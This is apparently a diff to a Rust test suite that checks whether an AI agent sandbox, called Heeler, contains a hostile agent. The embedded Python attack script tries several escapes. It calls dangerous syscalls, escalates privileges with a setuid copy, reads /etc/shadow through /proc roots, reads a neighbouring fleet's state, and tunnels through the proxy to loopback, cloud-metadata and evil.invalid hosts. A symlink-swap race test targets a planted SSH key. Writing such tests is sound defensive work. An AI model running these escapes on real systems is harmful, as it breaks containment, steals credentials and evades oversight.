@@ -9,6 +9,7 @@ use std::net::{TcpListener, UdpSocket};
 use std::os::linux::net::SocketAddrExt as _;
 use std::os::unix::net::{SocketAddr, UnixListener};
 use std::process::Command;
+use std::sync::atomic::{AtomicBool, Ordering};
 
 use crate::fleet::{Fleet, Ran};
 use crate::trigger::wait_for;
@@ -17,7 +18,8 @@ use crate::trigger::wait_for;
 const CANARY: &str = "canary-8821-of-the-host";
 
 /// Tries to leave the sandbox, and prints a line for each attempt that succeeds. The arguments are
-/// TCP port, UDP port and abstract socket of the host.
+/// TCP port, UDP port and abstract socket of the host, the folder of another agent, and a socket of
+/// the host.
 const ATTACK: &str = r#"
 import ctypes, errno, os, socket, subprocess, sys
 # Outside of a sandbox some of these attacks would damage the machine.
@@ -48,6 +50,10 @@ def _(): return os.listdir('.heeler')
 def _(): return b'canary' in read('.env')
 @attempt('read the folder of another agent')
 def _(): return b'canary' in read(sys.argv[4] + '/notes')
+@attempt('read the state of another fleet')
+def _(): return b'canary' in read('neighbour/.heeler/heeler.db')
+@attempt('list the state of another fleet')
+def _(): return os.listdir('neighbour/.heeler')
 @attempt('write the system')
 def _(): return overwrite('/etc/heeler-attack')
 @attempt('write the home directory of root')
@@ -110,12 +116,35 @@ if os.uname().machine == 'x86_64':
     call('clone of a namespace', 56, 0x10020000 | 17, 0, 0, 0, 0)
     call('clone3', 435, 0, 0)
     call('setns', 308, 0, 0)
+    call('add_key', 248, b'user', b'k', b'v', 1, -3)
+    call('io_uring_enter', 426, 0, 0, 0, 0, 0)
+    call('move_mount', 429, -1, b'', -1, b'', 4)
+    call('open_by_handle_at', 304, -100, 0, 0)
+    call('pidfd_getfd', 438, 0, 0, 0)
     call('bpf', 321, 0, 0, 0)
 attempt('make a namespace')(lambda: subprocess.check_call(['unshare', '-Ur', 'true'], stderr=subprocess.DEVNULL) == 0)
 status = dict(line.split(':\t', 1) for line in open('/proc/self/status') if ':\t' in line)
 if status['NoNewPrivs'].strip() != '1': print('ESCAPED no_new_privs')
 for name in ('CapEff', 'CapPrm', 'CapBnd', 'CapAmb', 'CapInh'):
     if int(status[name], 16): print('ESCAPED', name, status[name])
+@attempt('gain privileges by a setuid program')
+def _():
+    # `chmod u+s` on a copy, and the programs of the system.
+    subprocess.check_call(['cp', '/usr/bin/id', 'suid'])
+    os.chmod('suid', 0o6755)
+    return os.getuid() and '0' in subprocess.check_output(['./suid', '-u'], text=True).split()
+@attempt('leave a core file')
+def _():
+    child = os.fork()
+    if child == 0:
+        try: __import__('resource').setrlimit(4, (1 << 20, 1 << 20))
+        except ValueError: pass
+        os.chdir('/tmp'); os.abort()
+    _, status = os.waitpid(child, 0)
+    return os.WCOREDUMP(status) or [it for it in os.listdir('/tmp') if 'core' in it]
+attempt('follow the root of another process')(lambda: [os.listdir('/proc/%s/root/..' % it)
+    for it in os.listdir('/proc') if it.isdigit() and os.path.exists('/proc/%s/root/etc/shadow' % it)
+    and open('/proc/%s/root/etc/shadow' % it).read()])
 if os.getuid(): attempt('become root')(lambda: os.setuid(0) is None)
 def connect(family, address, kind=socket.SOCK_STREAM):
     s = socket.socket(family, kind); s.settimeout(2); s.connect(address); return True
@@ -129,7 +158,38 @@ attempt('connect to a socket of the host')(lambda: connect(socket.AF_UNIX, sys.a
 attempt('use vsock')(lambda: socket.socket(40, socket.SOCK_STREAM))
 try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', udp))
 except OSError: pass
+for address in ('2606:4700:4700::1111', 'fd00:ec2::254', 'fe80::1'):
+    attempt('connect to ' + address)(lambda: connect(socket.AF_INET6, (address, 53)))
+attempt('resolve a name')(lambda: socket.getaddrinfo('example.com', 80))
+# Through the proxy of the run: addresses of the host in every spelling, and its names.
+def tunnel(host, port, begin='CONNECT %s HTTP/1.1\r\nhost: x\r\n\r\n'):
+    client = socket.create_connection(('127.0.0.1', 3128), 30)
+    client.sendall((begin % (host + ':' + str(port))).encode())
+    reply = client.recv(4096).decode()
+    return reply if ' 200' in reply.split('\n')[0] else proxied.append(reply)
+proxied = []
+targets = ('127.0.0.1', 'localhost', '127.1', '2130706433', '0x7f000001', '0177.0.0.1', '[::1]',
+           '[::ffff:127.0.0.1]', '0.0.0.0', '169.254.169.254', '[fd00:ec2::254]', 'evil.invalid',
+           'metadata.google.internal', 'api.anthropic.com.evil.invalid')
+for target in targets:
+    attempt('tunnel to ' + target)(lambda: tunnel(target, tcp))
+    attempt('get from ' + target)(lambda: tunnel(target, tcp, 'GET http://%s/ HTTP/1.1\r\nhost: x\r\n\r\n'))
+if len(proxied) != 2 * len(targets): print('ESCAPED: the proxy did not answer', len(proxied))
+@attempt('send another name than that of the tunnel')
+def _():
+    client = socket.create_connection(('127.0.0.1', 3128), 30)
+    # Allowed by the list. A machine without a network refuses it as well.
+    client.sendall(b'CONNECT api.anthropic.com:443 HTTP/1.1\r\nhost: x\r\n\r\n')
+    if b' 200' not in client.recv(4096): return
+    import ssl
+    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
+    return context.wrap_socket(client, server_hostname='evil.invalid').version()
 attempt('see an interface')(lambda: [n for _, n in socket.if_nameindex() if n != 'lo'])
+
+# Commands of Heeler say why they cannot work.
+for folder in ('.', '/'):
+    told = subprocess.run([os.path.abspath('bin/heeler'), 'jobs'], cwd=folder, capture_output=True, text=True)
+    print('TOLD', told.returncode, told.stderr.replace('\n', ' '), told.stdout, flush=True)
 
 # What an agent must be able to do.
 with open('made', 'w') as file: file.write('made')
@@ -180,6 +240,12 @@ fn nothing_leaves_a_sandbox(like: &Fleet) {
         socket.display(),
     );
     let fleet = sandboxed(like, &command, &other);
+    // Another fleet that the person uses. The agent may read everything else in that folder.
+    fleet.write("neighbour/heeler.yaml", "agents: []\n");
+    fleet.write("neighbour/.heeler/heeler.db", CANARY);
+    let mut trust = fleet.command(&["trust", "--yes"]);
+    trust.current_dir(fleet.file("neighbour")).env_remove("HEELER_TRUST");
+    Ran::from(trust.output().unwrap()).ok();
     fleet.write("attack.py", ATTACK);
     let (config, hooks) = (fleet.read("heeler.yaml"), list(&fleet, ".git/hooks"));
     let git_config = fleet.read(".git/config");
@@ -192,6 +258,12 @@ fn nothing_leaves_a_sandbox(like: &Fleet) {
     let said = format!("{}{}", ran.stdout, ran.stderr);
     assert!(said.contains("finished"), "{said}");
     assert!(!said.contains("ESCAPED"), "{said}");
+    for hidden in ["the state directory", "no heeler.yaml is visible in /"] {
+        let told = said.lines().filter(|line| line.starts_with("TOLD 5 "));
+        let told: Vec<&str> = told.filter(|line| line.contains(hidden)).collect();
+        assert_eq!(told.len(), 1, "{said}");
+        assert!(told[0].contains("in the sandbox of this run"), "{said}");
+    }
     assert!(said.contains("exited with code 3"), "the exit code of the agent is told: {said}");
     assert_eq!(fleet.read("heeler.yaml"), config);
     assert_eq!((fleet.read(".git/config"), list(&fleet, ".git/hooks")), (git_config, hooks));
@@ -271,6 +343,52 @@ fn nothing_of_a_sandbox_outlives_its_runner(like: &Fleet) {
     }
 }
 
+/// Another process replaces a directory that the config lets the agent write by a link to a hidden
+/// one, and back, again and again, while runs begin.
+fn no_link_that_is_swapped_in_is_mounted(like: &Fleet) {
+    const RUNS: usize = 6;
+    let fleet = like.another();
+    let command = "cat cache/id_ed25519; echo forged > cache/forged; echo begun";
+    fleet.write(
+        "heeler.yaml",
+        &format!(
+            "agents:\n  - name: hostile\n    runtime: command\n    command: '{command}'\n    \
+             sandbox: {{write: [cache]}}\n"
+        ),
+    );
+    fleet.write("home/.ssh/id_ed25519", CANARY);
+    fleet.write("cache/keep", "");
+    fleet.run(&["start", "--detach"]).ok();
+    let (cache, aside) = (fleet.file("cache"), fleet.file("aside"));
+    let is_over = AtomicBool::new(false);
+    std::thread::scope(|threads| {
+        let swapper = threads.spawn(|| {
+            let mut swaps = 0_u64;
+            while !is_over.load(Ordering::Relaxed) {
+                std::fs::rename(&cache, &aside).unwrap();
+                std::os::unix::fs::symlink("home/.ssh", &cache).unwrap();
+                std::thread::yield_now();
+                std::fs::remove_file(&cache).unwrap();
+                std::fs::rename(&aside, &cache).unwrap();
+                swaps += 1;
+            }
+            swaps
+        });
+        for _ in 0..RUNS {
+            let ran = fleet.run(&["trigger", "hostile"]);
+            let said = format!("{}{}", ran.stdout, ran.stderr);
+            assert!(!said.contains(CANARY), "{said}");
+            assert!(said.contains("begun") || said.contains("in its sandbox"), "{said}");
+        }
+        is_over.store(true, Ordering::Relaxed);
+        assert!(swapper.join().unwrap() > 0);
+    });
+    assert_eq!(list(&fleet, "home/.ssh"), ["id_ed25519"]);
+    // Without the swaps, the agent runs.
+    assert!(fleet.run(&["trigger", "hostile", "-q"]).stdout.contains("begun"));
+    fleet.run(&["stop", "--force", "-q"]);
+}
+
 #[test]
 fn an_agent_is_refused_where_no_sandbox_can_be_made() {
     let like = Fleet::empty();
@@ -292,4 +410,5 @@ fn an_agent_is_refused_where_no_sandbox_can_be_made() {
 attacks! {
     nothing_leaves_a_sandbox,
     nothing_of_a_sandbox_outlives_its_runner,
+    no_link_that_is_swapped_in_is_mounted,
 }
